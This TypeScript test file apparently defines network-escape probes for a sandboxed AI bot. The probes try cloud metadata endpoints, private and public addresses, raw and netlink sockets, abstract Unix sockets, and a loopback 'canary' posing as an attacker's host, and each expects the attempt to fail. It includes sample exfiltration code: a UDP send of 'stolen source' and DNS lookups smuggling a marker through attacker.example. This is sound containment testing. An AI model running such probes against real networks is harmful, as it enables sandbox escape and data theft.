/**
 * Attacks beneath HTTP: raw addresses, other ports, other protocols, DNS. The sandbox has the gateway on a
 * loopback interface, and no other.
 */
import { ownAbstract } from '../inside/plan.mts';
import {
  bashConnect,
  curl,
  nodeConnect,
  nodeDatagram,
  pythonConnect,
  refusedConnection,
  script,
  tcp,
  udp,
  unreachable,
  type Group,
  type Place,
  type Probe,
} from '../probe.ts';

/** Linux's numbers; the same on both architectures. */
const sockets: readonly (readonly [
  id: string,
  attack: string,
  family: number,
  type: number,
  protocol: number,
  expected: readonly string[],
])[] = [
  ['raw', 'a raw socket', 2, 3, 6, ['EPERM']],
  ['raw-icmp', 'raw ICMP', 2, 3, 1, ['EPERM']],
  ['ping', 'ping without rights', 2, 2, 1, ['EACCES', 'EPERM']],
  ['packet', 'the link layer', 17, 3, 3, ['EAFNOSUPPORT']],
  ['vsock', 'the hypervisor, past every network rule', 40, 1, 0, ['EAFNOSUPPORT']],
  ['crypto', 'the kernel’s cryptography', 38, 5, 0, ['EAFNOSUPPORT']],
  ['bluetooth', 'Bluetooth', 31, 3, 1, ['EAFNOSUPPORT']],
  ['tipc', 'a cluster’s own network', 30, 1, 0, ['EAFNOSUPPORT']],
  ...(
    [
      [4, 'socket tables'],
      [9, 'audit'],
      [11, 'process events'],
      [12, 'the packet filter'],
      [15, 'device events'],
      [16, 'generic netlink'],
    ] as const
  ).map(
    ([protocol, what]) =>
      [`netlink-${protocol}`, `netlink: ${what}`, 16, 3, protocol, ['EPROTONOSUPPORT']] as const,
  ),
  ['xdp', 'the network card’s rings', 44, 3, 0, ['EAFNOSUPPORT']],
];
const errnoName = `errno_name()`;
const perlErrno = `use Errno; sub errno_name { my @names = sort grep { $!{$_} } keys %!; return $names[0] }`;

const abstractSocket = (id: string, attack: string, name: string): Probe =>
  script(
    id,
    attack,
    'perl',
    `${perlErrno} use Socket; socket(my $s, 1, 1, 0) or die; print connect($s, pack_sockaddr_un("\\0$ARGV[0]")) ? "CONNECTED" : ${errnoName}, "\\n";`,
    refusedConnection,
    { args: [name], control: { args: [ownAbstract], got: 'CONNECTED' } },
  );

export const network: Group = {
  name: 'network',
  about: 'beneath HTTP: addresses, ports, protocols, names',
  probes: (place: Place): readonly Probe[] => {
    const { canary } = place;
    const bash = (id: string, attack: string, address: string, port: number, expected: readonly string[]) =>
      script(id, attack, 'bash', bashConnect, expected, { target: tcp(address, port) });
    const node = (id: string, attack: string, address: string, port: number, expected: readonly string[]) =>
      script(id, attack, 'node', nodeConnect, expected, { target: tcp(address, port) });
    const datagram = (
      id: string,
      attack: string,
      address: string,
      port: number,
      expected: readonly string[],
    ) => script(id, attack, 'node', nodeDatagram, expected, { target: udp(address, port) });
    return [
      bash('metadata', 'the cloud’s metadata', '169.254.169.254', 80, unreachable),
      curl(
        'metadata-curl',
        'the same with curl',
        ['http://169.254.169.254/latest/meta-data/'],
        ['curl error 7'],
      ),
      bash('container-metadata', 'the container’s credentials', '169.254.170.2', 80, unreachable),
      node('private-10', 'a private network', '10.0.0.1', 443, unreachable),
      node('private-172', 'Docker’s bridge', '172.17.0.1', 2375, unreachable),
      node('private-192', 'a router', '192.168.1.1', 80, unreachable),
      script('python-public', 'a public address, from Python', 'python3', pythonConnect, unreachable, {
        target: tcp('203.0.113.9', 443),
      }),
      script(
        'python-canary',
        'the attacker’s host outside, from Python',
        'python3',
        pythonConnect,
        refusedConnection,
        { target: tcp('127.0.0.1', canary.tcpPort) },
      ),
      bash(
        'canary-bash',
        'the attacker’s host outside, on this machine’s loopback',
        '127.0.0.1',
        canary.tcpPort,
        refusedConnection,
      ),
      node('canary-node', 'the same from Node, by name', 'localhost', canary.tcpPort, refusedConnection),
      node('canary-tls', 'its HTTPS port', '127.0.0.1', canary.httpsPort, refusedConnection),
      node('canary-ipv6', 'the same over IPv6', '::1', canary.tcp6Port ?? 443, [
        ...refusedConnection,
        'EADDRNOTAVAIL',
        'EAFNOSUPPORT',
      ]),
      node(
        'canary-mapped',
        'an IPv4 address written as IPv6',
        '::ffff:127.0.0.1',
        canary.tcpPort,
        refusedConnection,
      ),
      node(
        'host-address',
        'this machine’s address in its network',
        place.hostAddress,
        canary.tcpPort,
        unreachable,
      ),
      node('host-zero', 'the address 0.0.0.0', '0.0.0.0', canary.tcpPort, refusedConnection),
      bash('bot', 'the bot’s own port', '127.0.0.1', place.botPort, refusedConnection),
      bash(
        'github-port',
        'GitHub without the gateway, where it really is',
        '127.0.0.1',
        place.githubPort,
        refusedConnection,
      ),
      bash(
        'openai-port',
        'OpenAI without the gateway, where it really is',
        '127.0.0.1',
        place.openaiPort,
        refusedConnection,
      ),
      bash('control-port', 'a control server on port 3000', '127.0.0.1', 3000, refusedConnection),
      bash('dns-tcp', 'DNS over TCP', '127.0.0.1', 53, refusedConnection),
      node('dns-tcp-public', 'DNS over TCP to a public resolver', '1.1.1.1', 53, unreachable),
      node('dot', 'DNS over TLS', '1.1.1.1', 853, unreachable),
      node('doh-address', 'DNS over HTTPS by address', '1.1.1.1', 443, unreachable),
      node('ipv6', 'a public IPv6 address', '2001:db8::1', 443, [
        ...unreachable,
        'EADDRNOTAVAIL',
        'EAFNOSUPPORT',
      ]),
      node('ipv6-local', 'a link-local IPv6 address', 'fe80::1', 443, [
        'EINVAL',
        ...unreachable,
        'EAFNOSUPPORT',
      ]),
      datagram('udp-dns', 'a public resolver over UDP', '8.8.8.8', 53, unreachable),
      datagram('udp-quic', 'QUIC', '203.0.113.9', 443, unreachable),
      datagram('udp-ntp', 'the time server', '203.0.113.9', 123, unreachable),
      datagram('udp-broadcast', 'a broadcast', '255.255.255.255', 67, ['EACCES', ...unreachable]),
      datagram('udp-multicast', 'multicast DNS', '224.0.0.251', 5353, unreachable),
      datagram('udp-ipv6', 'UDP over IPv6', '2001:db8::1', 53, [
        ...unreachable,
        'EADDRNOTAVAIL',
        'EAFNOSUPPORT',
      ]),
      script(
        'udp-canary',
        'a datagram to the attacker’s host outside, on this machine’s loopback',
        'node',
        `import { createSocket } from 'node:dgram';
const socket = createSocket('udp4');
socket.on('error', (error) => { console.log(error.code); process.exit(); });
// A connected socket reports the closed port.
socket.connect(Number(process.env.PROBE_PORT), process.env.PROBE_ADDRESS, () => {
  socket.send('stolen source');
  setTimeout(() => { socket.send('again'); setTimeout(() => { console.log('SENT'); process.exit(); }, 200); }, 200);
});`,
        refusedConnection,
        { target: udp('127.0.0.1', canary.udpPort) },
      ),
      ...['TXT', 'MX', 'SRV', 'NS', 'CNAME', 'NULL'].slice(0, 5).map((type) =>
        script(
          `dns-${type.toLowerCase()}`,
          `data in a ${type} question`,
          'node',
          `import { promises } from 'node:dns';
promises.resolve('${place.marker}.attacker.example', '${type}').then((answer) => console.log('ANSWER', answer), (error) => console.log(error.code));`,
          ['ENOTFOUND', 'ENODATA'],
        ),
      ),
      script(
        'dns-ipv6',
        'an IPv6 address for a name',
        'node',
        `import { promises } from 'node:dns';
promises.resolve6('attacker.example').then((answer) => console.log('ANSWER', answer), (error) => console.log(error.code));`,
        ['ENODATA'],
      ),
      ...sockets.map(([id, attack, family, type, protocol, expected]) =>
        script(
          `socket-${id}`,
          `a socket for ${attack}`,
          'perl',
          `${perlErrno} print socket(my $s, $ARGV[0], $ARGV[1], $ARGV[2]) ? "MADE" : ${errnoName}, "\\n";`,
          expected,
          {
            args: [family, type, protocol].map(String),
            control: { args: ['16', '3', '0'], got: 'MADE' },
          },
        ),
      ),
      script(
        'sctp',
        'SCTP to an address',
        'perl',
        `${perlErrno} use Socket; socket(my $own, 2, 1, 6) or die; if (!socket(my $s, 2, 1, 132)) { print ${errnoName}, "\\n" } else { print connect($s, sockaddr_in(443, inet_aton("203.0.113.9"))) ? "CONNECTED" : ${errnoName}, "\\n" }`,
        ['EPROTONOSUPPORT', 'ESOCKTNOSUPPORT', ...unreachable],
      ),
      abstractSocket(
        'abstract-socket',
        'an abstract Unix socket of the machine outside',
        canary.abstractName,
      ),
      // The canary listens there where nothing else does.
      abstractSocket('abstract-x11', 'the abstract socket of the screen', '/tmp/.X11-unix/X0'),
      abstractSocket('abstract-dbus', 'the abstract socket of the system bus', '/run/dbus/system_bus_socket'),
      abstractSocket('abstract-systemd', 'the abstract socket of systemd', '/run/systemd/private'),
      script(
        'interfaces',
        'any interface but loopback',
        'bash',
        "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | paste -sd,",
        ['lo'],
      ),
      script(
        'routes',
        'any route',
        'bash',
        'grep -q ^Iface /proc/net/route || exit 1; echo "$(tail -n +2 /proc/net/route | wc -l) routes"',
        ['0 routes'],
      ),
      script(
        'add-route',
        'a route of its own, over netlink',
        'perl',
        `${perlErrno} socket(my $s, 16, 3, 0) or do { print ${errnoName}, "\\n"; exit };
# RTM_NEWLINK: a dummy interface. The answer is an error message whose first number is the negative errno.
my $request = pack("LSSLL CCSlLL", 32, 16, 0x605, 1, 0, 0, 0, 0, 0, 0, 0);
send($s, $request, 0) or die; recv($s, my $answer, 4096, 0) // die;
my (undef, $type, undef, undef, undef, $code) = unpack("LSSLLl", $answer);
$! = -$code; print $type == 2 && $code != 0 ? ${errnoName} : "DONE", "\\n";`,
        ['EPERM'],
      ),
    ];
  },
};
